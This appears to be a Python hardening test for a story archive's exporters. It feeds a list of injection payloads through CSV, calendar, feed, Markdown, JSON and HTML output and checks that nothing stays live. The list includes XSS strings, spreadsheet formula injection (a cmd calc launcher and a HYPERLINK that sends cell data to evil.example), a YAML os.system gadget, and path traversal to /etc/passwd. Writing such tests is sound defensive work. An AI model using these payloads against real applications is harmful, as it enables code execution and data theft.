"""Every form of export with stories, themes, tags and feeds that want to be more than text, read as others read it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import yaml
from icalendar import Calendar
from lxml import etree, html
from markdown_it import MarkdownIt

from store.api.feeds import Feed, FeedId
from store.api.story import Carried, Story, StoryId
from store.api.themes import Theme
from store.api.views import MarkedStory, Marks
from store.api.when import When
from store.exports.about import About
from store.exports.export_table import STORY_FORMS
from store.feeds.opml import opml
from store.text.clean import clean_line
from store.text.spreadsheet import guarded, unguarded
from tests.hardening.trial import Scale, Tried

TRICKS = (
    "<script>wrongs.push(1)</script>", "</script><script>wrongs.push(1)</script>", "<!-- <script>", "<!--<script>\n",
    "]]><x onload=wrongs.push(1)>", "\u2028wrongs.push(1)//", "'\" onclick=wrongs.push(1) x='", "<svg/onload=wrongs.push(1)>",
    "javascript:wrongs.push(1)", "&#x3c;script&#x3e;", "<iframe srcdoc='<script>wrongs.push(1)</script>'>",
    "<style>@import 'https://evil.example/'</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=//evil.example/x>",
    "{{script}}", "${wrongs.push(1)}", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", ' "=1"', "'=1", "＝1", "＠x", "﹦1",
    "−1", '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", ";=1", 'a";=1', "a\t=1", "a,=1", "BEGIN:VEVENT",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT", "a\\nb;c,d", "ä" * 70, "# x", "- x", "> x", "```", "~~~", "    x", "[a](javascript:x)",
    "![a](https://evil.example/x.png)", "<https://evil.example/>", "[a]: https://evil.example/", "***", "---", "===", "1. x",
    "| a | b |", "\\", "`a`", "<b>x</b>", "a  \nb", "https://evil.example/x", "...\n", "!!python/object/apply:os.system [x]",
    "&a *a", "%TAG ! x", "\x1b]0;x\x07", "\x1b[2J", "\x9b31m", "\x00", "\ufffe", "\uffff", "\ud800", "\u202ex", "\u2066",
    "\ufeff", "__proto__", "constructor", "../../x", "/etc/passwd", "CON", "a" * 300, ".", "..", "~", "\U000e0041",
)  # fmt: skip
"""Texts that mean something in one form or another."""
_STEERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_PLAIN = frozenset(
    "heading_open heading_close paragraph_open paragraph_close inline text text_special html_block softbreak".split()
)
"""What Markdown is made of that is text and nothing more."""


@dataclass(frozen=True, slots=True)
class _Room:
    """What the exports of an attack have in common."""

    stories: tuple[MarkedStory, ...]
    about: About
    folder: Path


def attack(scale: Scale, folder: Path) -> Iterator[Tried]:
    """Write hostile stories in every form and read them as others would; where there is a browser, look at the page in it."""
    room = _Room(tuple(map(_hostile, range(len(TRICKS)))), _about(), folder)
    for form, look in _LOOKS.items():
        wrong = list(look(room))
        yield Tried(f"tricks in {form}", len(room.stories), len(wrong), "; ".join(wrong)[:200])
    if scale > Scale.MOMENT:
        yield _in_browser(room)


def _hostile(nth: int) -> MarkedStory:
    trick = TRICKS[nth]
    story = Story(
        StoryId(f"{nth:016x}"),
        " ".join(f"x {trick}".split()), When(f"2025-{nth % 12 + 1:02d}-02"), place=trick, highlights=(trick, f"x {trick}"), caption=trick,
        credit=trick, body=(trick, f"{trick} again"), source=trick, link=f"https://example.org/{nth}?{trick}", author=trick, language="en",
        sections=(trick,), also=(Carried(trick, f"https://example.com/{trick}"),),
    )  # fmt: skip
    return MarkedStory(story, Marks(starred=True, tags=(trick,), note=f"{trick}\n{trick}"), themes=(f"theme{nth}",))


def _about() -> About:
    themes = tuple(Theme(f"theme{nth}", trick, "#55b0b0") for nth, trick in enumerate(TRICKS))
    return About(clean_line(TRICKS[1] + TRICKS[60]), TRICKS[0], len(TRICKS), datetime(2026, 1, 2, tzinfo=UTC), themes, True)


def _written(room: _Room, form: str) -> bytes:
    out = io.BytesIO()
    STORY_FORMS[form].write(room.stories, room.about, out)
    return out.getvalue()


def _steering(raw: bytes) -> Iterator[str]:
    if found := _STEERS.search(raw.decode("utf-8")):
        yield f"{found[0]!r} at {found.start()}"


def _table(room: _Room) -> Iterator[str]:
    raw = _written(room, "csv")
    yield from _steering(raw)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    if len(rows) != len(room.stories) + 1:
        yield f"{len(rows)} rows"
    for cell in (cell for row in rows[1:] for cell in row):
        for part in re.split(r"[;\t\r\n]", cell):
            if re.match(r"[\s\"]*[=+\-@＝＋－＠﹦﹢﹣﹫−]", part):
                yield f"a formula: {part[:40]!r}"
    yield from (repr(trick) for trick in TRICKS if unguarded(guarded(trick)) != trick)


def _calendar(room: _Room) -> Iterator[str]:
    raw = _written(room, "ics")
    yield from _steering(raw)
    if any(len(line) > 75 for line in raw.split(b"\r\n")) or b"\n" in raw.replace(b"\r\n", b""):
        yield "a line that is too long or ends wrongly"
    entries = Calendar.from_ical(raw).walk("VEVENT")
    if len(entries) != len(room.stories):
        yield f"{len(entries)} entries"


def _xml(form: str, each: str) -> Callable[[_Room], Iterator[str]]:
    def look(room: _Room) -> Iterator[str]:
        raw = _written(room, form)
        yield from _steering(raw)
        root: Any = etree.fromstring(raw, etree.XMLParser(resolve_entities=False, no_network=True))
        if each and len(root.findall(each)) != len(room.stories):
            yield f"{len(root.findall(each))} entries"
        for element in root.iter():
            name = etree.QName(element).localname if isinstance(element.tag, str) else "comment"
            if name.lower() in ("script", "foreignobject", "iframe", "image", "use"):
                yield f"an element {name}"
            for attribute, value in element.attrib.items():
                name, led = str(attribute).lower(), str(value).strip().lower().startswith("javascript:")
                if name.startswith("on") or (led and name not in ("term", "label")):
                    yield f"{name}={str(value)[:40]}"

    return look


def _json(form: str, texts: Callable[[Any], list[Any]]) -> Callable[[_Room], Iterator[str]]:
    def look(room: _Room) -> Iterator[str]:
        raw = _written(room, form)
        yield from _steering(raw)
        told = texts(json.loads(raw))
        if len(told) != len(room.stories):
            yield f"{len(told)} stories"

    return look


def _fragments(room: _Room) -> Iterator[str]:
    """Look that the HTML in forms of JSON has no element but those of ours."""
    raw = _written(room, "timelinejs")
    yield from _steering(raw)
    events = json.loads(raw)["events"]
    feed = json.loads(_written(room, "jsonfeed"))["items"]
    for text in [part for event in events for part in event["text"].values()] + [item.get("content_html", "") for item in feed]:
        fragment: Any = html.fragments_fromstring(f"<div>{text}</div>")[0]
        for element in fragment.iter():
            if element.tag not in ("div", "p", "ul", "li", "small", "em", "a") or any(
                name not in ("href",) for name in element.attrib
            ):
                yield f"<{element.tag} {dict(element.attrib)}>"
            if not str(element.get("href", "https://")).startswith("https://example.org/"[: len("https://")]):
                yield f"leads to {element.get('href')}"


def _lines(room: _Room) -> Iterator[str]:
    raw = _written(room, "jsonl")
    yield from _steering(raw)
    if len([json.loads(line) for line in raw.split(b"\n") if line]) != len(room.stories):
        yield "not a line a story"


def _markdown(room: _Room) -> Iterator[str]:
    shown = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    for one in room.stories:
        out = io.BytesIO()
        STORY_FORMS["markdown"].write([one], room.about, out)
        yield from _steering(out.getvalue())
        _, front, body = re.split(r"(?m)^---\n", out.getvalue().decode("utf-8"), maxsplit=2)
        if not isinstance(yaml.safe_load(front), dict):
            yield "front matter that is no table"
        tokens = [inner for token in shown.parse(body) for inner in (token, *(token.children or ()))]
        wrong = {token.type for token in tokens} - _PLAIN
        wrong |= {token.content for token in tokens if token.type == "html_block" and token.content.strip() != "<!-- -->"}
        if wrong or sum(token.type == "heading_open" for token in tokens) != 1:
            yield f"{one.story.title[:20]!r} is {sorted(wrong)}"


def _folder(room: _Room) -> Iterator[str]:
    place = room.folder / "inside" / "notes"
    place.mkdir(parents=True)
    STORY_FORMS["folder"].write_folder(room.stories, room.about, place)
    if len(list(place.rglob("*.md"))) != len(room.stories) or len(list(place.parent.iterdir())) != 1:
        yield "not a file a story within the folder"
    yield from (f"{path.name!r}" for path in place.rglob("*") if _STEERS.search(path.name) or len(path.name.encode()) > 240)


def _page(room: _Room) -> Iterator[str]:
    raw = _written(room, "html")
    yield from _steering(re.sub(rb"(?s)<(script|style).*?</\1>", b"", raw))
    tree: Any = html.fromstring(raw)
    policy = tree.xpath("string(//meta[@http-equiv='Content-Security-Policy']/@content)")
    if not policy.startswith("default-src 'none'") or "unsafe" in policy or policy.count("'sha256-") != 2:
        yield f"its policy is {policy}"
    for element in tree.iter():
        if element.tag in ("iframe", "img", "object", "embed", "base", "link") or any(
            name.startswith("on") for name in element.attrib
        ):
            yield f"<{element.tag} {dict(element.attrib)}>"[:80]
    runs = [one for one in tree.iter("script") if one.get("type") not in ("application/json", "text/plain")]
    if len(runs) != 1:
        yield f"{len(runs)} scripts"


def _list_of_feeds(room: _Room) -> Iterator[str]:
    feeds = [
        Feed(FeedId(f"{nth}"), f"A {trick}", f"https://a.example/{nth}", site=trick, tags=(f"t {trick}",))
        for nth, trick in enumerate(TRICKS)
    ]
    raw = opml(feeds, room.about.title)
    yield from _steering(raw)
    root: Any = etree.fromstring(raw, etree.XMLParser(resolve_entities=False, no_network=True))
    if len(root.findall(".//outline[@xmlUrl]")) != len(feeds):
        yield "not an outline a feed"


def _in_browser(room: _Room) -> Tried:
    """Open the page in Chromium, go through all stories, and look what it complains of and asks for."""
    from tests.store.exports.html_page.browser import Browser, missing

    if reason := missing():
        return Tried("the page in a browser", 0, 0, reason)
    page = room.folder / "page.html"
    page.write_bytes(_written(room, "html"))
    browser = Browser(room.folder / "profile")
    try:
        browser.open(page)
        for _ in room.stories:
            browser.type("j", "ENTER", "ESCAPE")
        for trick in TRICKS[:20]:
            browser.open(page, f"#find={re.sub('[^!-~]', '', trick)}")
        complaints = browser.complaints()
        inside = browser.run("return document.querySelectorAll('#app iframe, #app img, #app script, #app svg [onload]').length")
    finally:
        browser.driver.quit()
    return Tried("the page in a browser", len(room.stories), len(complaints) + inside, "; ".join(complaints)[:200])


_LOOKS: Mapping[str, Callable[[_Room], Iterator[str]]] = {
    "a table": _table,
    "a calendar": _calendar,
    "an Atom feed": _xml("atom", "{http://www.w3.org/2005/Atom}entry"),
    "a picture": _xml("svg", ""),
    "JSON": _json("json", lambda told: list(told["stories"])),
    "a JSON feed": _json("jsonfeed", lambda told: list(told["items"])),
    "HTML in JSON": _fragments,
    "JSON lines": _lines,
    "Markdown": _markdown,
    "a folder of Markdown": _folder,
    "a web page": _page,
    "a list of feeds": _list_of_feeds,
}
